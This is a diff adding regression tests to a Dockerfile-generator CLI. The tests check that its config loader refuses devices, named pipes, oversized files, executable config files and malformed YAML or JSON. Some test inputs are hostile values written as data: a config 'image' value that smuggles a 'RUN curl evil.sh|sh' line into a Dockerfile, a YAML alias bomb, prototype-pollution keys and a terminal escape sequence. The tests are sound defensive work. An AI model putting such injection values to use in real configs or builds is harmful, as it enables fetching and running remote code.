@@ -1,8 +1,11 @@
-import {cp, mkdtemp, readFile, writeFile} from 'node:fs/promises';
+import {execFileSync} from 'node:child_process';
+import {access, chmod, cp, mkdir, mkdtemp, readFile, writeFile} from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
+import process from 'node:process';
+import {execa} from 'execa';
 import {describe, expect, it} from 'vitest';
-import {root, runCli} from './cli-run.js';
+import {binary, fixture, root, runCli} from './cli-run.js';
 
 async function copyOf(fixture: string): Promise<string> {
 	const directory = await mkdtemp(path.join(os.tmpdir(), 'diw-config-'));
@@ -41,7 +44,7 @@ describe('saved answers', () => {
 		['an unknown key', '{"distro": "ubuntu"}', /\.dotnet-image-wizardrc\.json: unknown key "distro" \(accepted: dotnet, app, deploy, startup, shell, globalization, os, arch, project, image\)\./],
 		['a bad value', '{"os": "windows"}', /\.dotnet-image-wizardrc\.json: "os" has an invalid value "windows" \(accepted: ubuntu, debian, alpine, azurelinux\)\./],
 		['a bad architecture list', '{"arch": ["amd64", "s390x"]}', /"arch" has an invalid value \["amd64","s390x"\]/],
-		['broken JSON', '{"os": ', /cannot be parsed/],
+		['broken JSON', '{"os": ', /\.dotnet-image-wizardrc\.json cannot be parsed as JSON: /],
 	])('rejects %s naming the key, the file and the accepted values', async (_name, content, message) => {
 		const directory = await copyOf('web-api');
 		await writeFile(path.join(directory, '.dotnet-image-wizardrc.json'), content);
@@ -93,5 +96,138 @@ describe('project problems on the command line', () => {
 		expect(chosen.stderr).toContain('note: build context: Worker (the app\'s folder).');
 		expect(chosen.stdout).toContain('COPY Worker.csproj .');
 		expect(chosen.stdout).toContain('ENTRYPOINT ["dotnet", "Worker.dll"]');
+	});
+});
+
+describe('a config file is data, read only when it is a regular file', () => {
+	// A regression here would hang the run: execa stops it, and the test fails instead.
+	const run = (args: string[], cwd: string, env: Record<string, string> = {}) => runCli(['--yes', '--detect', 'xml', '--output', 'dockerfile', ...args], {cwd, timeout: 15_000, env});
+	const oneLine = (stderr: string) => {
+		expect(stderr.trim().split('\n')).toHaveLength(1);
+		expect(stderr).not.toMatch(/\n\s+at |\(node:\d+\)/);
+		return stderr.trim();
+	};
+
+	it.each([
+		['/dev/zero', 'dotnet-image-wizard: --config: /dev/zero is a device, not a regular file: only regular files are read.'],
+		['/dev/null', 'dotnet-image-wizard: --config: /dev/null is a device, not a regular file: only regular files are read.'],
+		['.', 'dotnet-image-wizard: --config: . is a folder, not a file.'],
+	])('--config %s is refused in one line', {timeout: 20_000}, async (config, message) => {
+		const directory = await copyOf('web-api');
+		const {exitCode, stderr} = await run(['--config', config], directory);
+		expect(exitCode).toBe(2);
+		expect(oneLine(stderr)).toBe(message);
+	});
+
+	it('refuses a FIFO as --config and as the searched config, instead of waiting for a writer', {timeout: 40_000}, async () => {
+		const directory = await copyOf('web-api');
+		execFileSync('mkfifo', [path.join(directory, 'ci.json'), path.join(directory, '.dotnet-image-wizardrc.yaml')]);
+		const explicit = await run(['--config', 'ci.json'], directory);
+		expect(explicit.exitCode).toBe(2);
+		expect(oneLine(explicit.stderr)).toBe('dotnet-image-wizard: --config: ci.json is a named pipe (FIFO), not a regular file: only regular files are read.');
+		const searched = await run([], directory);
+		expect(searched.exitCode).toBe(2);
+		expect(oneLine(searched.stderr)).toBe('dotnet-image-wizard: the config file .dotnet-image-wizardrc.yaml is a named pipe (FIFO), not a regular file: only regular files are read.');
+	});
+
+	it('says a folder named like the config is a folder, naming it', {timeout: 20_000}, async () => {
+		const directory = await copyOf('web-api');
+		await mkdir(path.join(directory, '.dotnet-image-wizardrc.json'));
+		const {exitCode, stderr} = await run([], directory);
+		expect(exitCode).toBe(2);
+		expect(oneLine(stderr)).toBe('dotnet-image-wizard: the config file .dotnet-image-wizardrc.json is a folder, not a file.');
+	});
+
+	it('refuses a config larger than 1 MiB without reading it all', {timeout: 20_000}, async () => {
+		const directory = await copyOf('web-api');
+		await writeFile(path.join(directory, 'big.json'), `{"os": "alpine"${' '.repeat(1024 * 1024)}}`);
+		const {exitCode, stderr} = await run(['--config', 'big.json'], directory);
+		expect(exitCode).toBe(2);
+		expect(oneLine(stderr)).toBe('dotnet-image-wizard: --config: big.json is larger than 1 MiB, more than such a file ever needs: it is not read.');
+	});
+
+	it('says an unreadable config cannot be read (as root: run as nobody, whom permissions stop)', {timeout: 20_000}, async () => {
+		const directory = await copyOf('web-api');
+		await writeFile(path.join(directory, '.dotnet-image-wizardrc.json'), '{"os": "alpine"}', {mode: 0o000});
+		let result;
+		if (process.getuid?.() === 0) {
+			await chmod(directory, 0o755);
+			const cache = await mkdtemp(path.join(os.tmpdir(), 'diw-nobody-cache-'));
+			await chmod(cache, 0o777);
+			const run = await execa('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', process.execPath, binary, '--today', '2026-11-24', '--yes', '--detect', 'xml', '--output', 'dockerfile'], {cwd: directory, reject: false, timeout: 15_000, input: '', env: {XDG_CACHE_HOME: cache}});
+			result = {exitCode: run.exitCode, stderr: String(run.stderr)};
+		} else {
+			result = await run([], directory);
+		}
+		expect(result.exitCode).toBe(2);
+		expect(oneLine(result.stderr)).toBe('dotnet-image-wizard: the config file .dotnet-image-wizardrc.json cannot be read: permission denied.');
+	});
+
+	it.each(['x.js', 'x.cjs', 'x.mjs', 'x.ts', 'x.toml'])('never runs --config %s: only JSON, YAML and the rc file are read', {timeout: 20_000}, async name => {
+		const directory = await copyOf('web-api');
+		const marker = path.join(directory, 'ran');
+		await writeFile(path.join(directory, name), `require('node:fs').writeFileSync(${JSON.stringify(marker)}, 'x'); module.exports = {os: 'alpine'};\n`);
+		const {exitCode, stderr} = await run(['--config', name], directory);
+		expect(exitCode).toBe(2);
+		expect(oneLine(stderr)).toBe(`dotnet-image-wizard: --config: ${name} is a ${path.extname(name)} file: a config is data, read from JSON (.json), YAML (.yaml, .yml) or a file with no extension, never run as code.`);
+		await expect(access(marker)).rejects.toThrow();
+	});
+
+	it('reads JSON with a byte-order mark, and an extension-less rc file as YAML', {timeout: 20_000}, async () => {
+		const directory = await copyOf('web-api');
+		await writeFile(path.join(directory, 'ci.json'), '\uFEFF{"os": "alpine"}');
+		const bom = await run(['--config', 'ci.json'], directory);
+		expect(bom.exitCode).toBe(0);
+		expect(bom.stdout).toContain('-alpine');
+		await writeFile(path.join(directory, '.dotnet-image-wizardrc'), 'os: azurelinux\n');
+		const rc = await run([], directory);
+		expect(rc.stdout).toContain('-azurelinux');
+	});
+
+	it.each([
+		['several YAML documents', '.dotnet-image-wizardrc.yaml', 'os: alpine\n---\nos: debian\n', '.dotnet-image-wizardrc.yaml holds 2 YAML documents (the second starts on line 2): a config is one document.'],
+		['a key given twice in YAML', '.dotnet-image-wizardrc.yaml', 'os: alpine\nos: debian\n', '.dotnet-image-wizardrc.yaml gives the same key twice (line 2): say each answer once.'],
+		['a key given twice in JSON', '.dotnet-image-wizardrc.json', '{"os": "alpine",\n "os": "debian"}', '.dotnet-image-wizardrc.json gives the same key twice (line 2): say each answer once.'],
+		['an alias bomb', '.dotnet-image-wizardrc.yaml', `a: &a [${Array(9).fill('"x"').join(',')}]\nb: &b [${Array(9).fill('*a').join(',')}]\nc: &c [${Array(9).fill('*b').join(',')}]\nos: [${Array(9).fill('*c').join(',')}]\n`, '.dotnet-image-wizardrc.yaml expands its YAML aliases more than 100 times, like an alias bomb: it is not read.'],
+		['YAML nested 100,000 deep', '.dotnet-image-wizardrc.yaml', `os: ${'['.repeat(100_000)}${']'.repeat(100_000)}\n`, '.dotnet-image-wizardrc.yaml nests its values deeper than a config can: it is not read.'],
+		['JSON nested 100,000 deep', '.dotnet-image-wizardrc.json', `{"os": ${'['.repeat(100_000)}${']'.repeat(100_000)}}`, '.dotnet-image-wizardrc.json: "os" has an invalid value (nested too deep to show) (accepted: ubuntu, debian, alpine, azurelinux).'],
+		['an image that would inject a Dockerfile line', '.dotnet-image-wizardrc.json', '{"image": "x\\nRUN curl evil.sh|sh"}', '.dotnet-image-wizardrc.json: "image" "x\\nRUN curl evil.sh|sh" is not an image reference'],
+		['an image that is not XML-safe', '.dotnet-image-wizardrc.yaml', 'image: "a&b"\n', '.dotnet-image-wizardrc.yaml: "image" "a&b" is not an image reference'],
+		['__proto__', '.dotnet-image-wizardrc.json', '{"__proto__": {"os": "alpine"}}', '.dotnet-image-wizardrc.json: unknown key "__proto__"'],
+		['constructor', '.dotnet-image-wizardrc.yaml', 'constructor: {os: alpine}\n', '.dotnet-image-wizardrc.yaml: unknown key "constructor"'],
+		['a key with a terminal escape', '.dotnet-image-wizardrc.json', '{"\\u001b]0;pwned\\u0007": 1}', '.dotnet-image-wizardrc.json: unknown key "\\u001b]0;pwned\\u0007"'],
+	])('refuses %s in one line naming the file', {timeout: 20_000}, async (_name, file, content, message) => {
+		const directory = await copyOf('web-api');
+		await writeFile(path.join(directory, file), content);
+		const {exitCode, stderr} = await run([], directory);
+		expect(exitCode).toBe(2);
+		expect(oneLine(stderr)).toContain(`dotnet-image-wizard: ${message}`);
+		expect(stderr).not.toContain('\u001B');
+	});
+
+	it('keeps YAML warnings off stderr as process warnings', {timeout: 20_000}, async () => {
+		const directory = await copyOf('web-api');
+		await writeFile(path.join(directory, '.dotnet-image-wizardrc.yaml'), '%FOO bar\n---\nos: !foo alpine\n');
+		const {exitCode, stdout, stderr} = await run([], directory);
+		expect(exitCode).toBe(0);
+		expect(stdout).toContain('-alpine');
+		expect(stderr).not.toMatch(/\(node:\d+\)|YAMLWarning/);
+	});
+
+	it('searches from the folder upwards, up to the home folder and not above it', {timeout: 30_000}, async () => {
+		const outer = await mkdtemp(path.join(os.tmpdir(), 'diw-home-'));
+		const home = path.join(outer, 'home');
+		const app = path.join(home, 'src', 'app');
+		await mkdir(app, {recursive: true});
+		await cp(fixture('web-api'), app, {recursive: true});
+		await writeFile(path.join(outer, '.dotnet-image-wizardrc.json'), '{"os": "alpine"}');
+		const above = await run([], app, {HOME: home});
+		expect(above.stdout).not.toContain('-alpine');
+		await writeFile(path.join(home, '.dotnet-image-wizardrc.json'), '{"os": "azurelinux"}');
+		const atHome = await run([], app, {HOME: home});
+		expect(atHome.stdout).toContain('-azurelinux');
+		await writeFile(path.join(home, 'src', 'dotnet-image-wizard.config.json'), '{"os": "alpine"}');
+		const nearer = await run([], app, {HOME: home});
+		expect(nearer.stdout).toContain('-alpine');
 	});
 });
